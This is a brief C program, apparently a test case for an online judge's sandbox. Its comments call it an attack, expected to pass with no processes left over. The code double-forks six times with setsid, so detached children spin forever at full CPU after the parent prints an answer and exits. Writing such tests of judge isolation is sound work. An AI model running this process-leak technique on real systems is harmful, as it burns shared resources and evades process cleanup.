// attack: forks twice so that init inherits the children, which go on spinning after the program has won
// verdict: AC
// after: nothing left
#include <stdio.h>
#include <unistd.h>

int main(void) {
    for (int i = 0; i < 6; i++)
        if (fork() == 0) {
            setsid();
            if (fork() == 0) {
                close(0), close(1), close(2);
                for (;;)
                    ;
            }
            _exit(0);
        }
    return puts("first\n1 5") < 0;
}
